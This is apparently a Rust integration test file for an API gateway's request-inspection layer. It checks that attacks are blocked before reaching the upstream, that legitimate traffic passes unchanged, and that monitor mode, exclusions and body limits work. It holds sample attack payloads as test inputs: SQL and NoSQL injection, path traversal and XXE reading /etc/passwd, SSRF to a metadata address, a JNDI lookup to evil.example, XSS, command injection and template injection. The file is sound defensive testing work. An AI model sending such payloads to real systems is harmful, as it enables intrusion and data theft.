use crate::testkit::*;

async fn post_as(addr: std::net::SocketAddr, path: &str, content_type: &str, body: &str) -> Got {
    call(addr, "POST", path, &[("content-type", content_type)], body).await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_in_every_placement_are_stopped_before_the_upstream() {
    let up = TestUpstream::start().await;
    let gw = TestGateway::start(&config(&one_upstream(&up.url()), all_routes(), "")).await;
    let a = gw.addr();
    let cases: Vec<(Got, &str)> = vec![
        (get(a, "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--").await, "inspect.sqli"),
        (get(a, "/files?name=..%2F..%2F..%2Fetc%2Fpasswd").await, "inspect.path_traversal"),
        (get(a, "/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F").await, "inspect.ssrf"),
        (get(a, "/users?id[$ne]=1").await, "inspect.nosqli"),
        (get_with(a, "/x", &[("user-agent", "${jndi:ldap://evil.example/a}")]).await, "inspect.jndi"),
        (get_with(a, "/x", &[("cookie", "session=abc; pref=<script>alert(1)</script>")]).await, "inspect.xss"),
        (
            post_as(a, "/users", "application/json", r#"{"name":"x","bio":"<svg onload=alert(1)>"}"#).await,
            "inspect.xss",
        ),
        (
            post_as(a, "/users", "application/json", r#"{"filter":{"$where":"sleep(5000) || true"}}"#).await,
            "inspect.nosqli",
        ),
        (
            post_as(a, "/ping", "application/x-www-form-urlencoded", "host=8.8.8.8%3Bcat+%2Fetc%2Fpasswd").await,
            "inspect.cmdi",
        ),
        (post_as(a, "/tpl", "application/json", r#"{"greeting":"{{7*7}}{{config.__class__}}"}"#).await, "inspect.ssti"),
        (
            post_as(
                a,
                "/xml",
                "application/xml",
                "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
            )
            .await,
            "inspect.xxe",
        ),
        (post_as(a, "/users", "application/json", "{\"broken\": ").await, "inspect.malformed_body"),
    ];
    for (got, want) in &cases {
        assert_eq!(got.code(), *want, "{}", got.text());
        assert!(matches!(got.status, 400 | 403), "{}", got.status);
    }
    assert_eq!(up.hits(), 0, "an attack reached the upstream");
    gw.handle.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn legitimate_traffic_passes_unchanged() {
    let up = TestUpstream::start().await;
    let gw = TestGateway::start(&config(&one_upstream(&up.url()), all_routes(), "")).await;
    let a = gw.addr();
    let body = r#"{"name":"Seán O'Brien","address":"12 Drop Lane; Union City","note":"Please select the blue one or the red one","sku":"KB-104/US","qty":3,"city":"北京","tags":["and","or","delete"]}"#;
    let got = post_as(a, "/echo/users", "application/json", body).await;
    assert_eq!(got.status, 200, "{}", got.text());
    assert_eq!(got.json()["body"], body, "the upstream must receive the body byte for byte");
    let got = get(a, "/echo/search?q=rock+%26+roll+-+the+best+of+1999&sort=price%3Adesc").await;
    assert_eq!(got.status, 200, "{}", got.text());
    let got = get_with(
        a,
        "/echo",
        &[
            ("user-agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15"),
            ("referer", "https://www.example.com/a?b=c"),
        ],
    )
    .await;
    assert_eq!(got.status, 200, "{}", got.text());
    // Opaque bodies stream through uninspected.
    let got = post_as(a, "/echo/upload", "application/octet-stream", "' OR 1=1 --").await;
    assert_eq!(got.status, 200);
    gw.handle.shutdown().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn monitor_mode_exclusions_levels_and_off() {
    let up = TestUpstream::start().await;
    let routes = "  - { path: /notes, methods: [POST], upstream: app, auth: none, inspect: { exclude: [\"json:code\"] } }\n  - { path: /raw, methods: [POST], upstream: app, auth: none, inspect: { enabled: false } }\n  - { path: /watch, methods: [GET], upstream: app, auth: none, modes: { inspect: monitor } }\n  - { path: /small, methods: [POST], upstream: app, auth: none, inspect: { max_body_bytes: 16 } }";
    let gw = TestGateway::start(&config(&one_upstream(&up.url()), routes, "")).await;
    let a = gw.addr();
    // The excluded field may hold code; another field may not.
    assert_eq!(post_as(a, "/notes", "application/json", r#"{"code":"<script>alert(1)</script>"}"#).await.status, 200);
    assert_eq!(
        post_as(a, "/notes", "application/json", r#"{"text":"<script>alert(1)</script>"}"#).await.code(),
        "inspect.xss"
    );
    assert_eq!(post_as(a, "/raw", "application/json", r#"{"text":"<script>alert(1)</script>"}"#).await.status, 200);
    assert_eq!(get(a, "/watch?q=1%27%20or%20%271%27%3D%271").await.status, 200, "monitor mode must pass");
    let got = post_as(a, "/small", "application/json", r#"{"a":"a value longer than sixteen bytes"}"#).await;
    assert_eq!((got.status, got.code()), (413, "inspect.body_too_large".to_string()));
    gw.handle.shutdown().await;

    // A config error in the inspect block names its line.
    let dir = TempDir::new();
    let p = dir.write(
        "bad.yaml",
        &config(&one_upstream(&up.url()), all_routes(), "inspect: { level: 7, exclude: [nonsense] }"),
    );
    let Err(e) = gateway::config::load_file(&p, &gateway::metrics::Metrics::new()) else { panic!("accepted") };
    let text = e.to_string();
    assert!(text.contains("inspect level 7 does not exist") && text.contains("invalid exclusion `nonsense`"), "{text}");
}
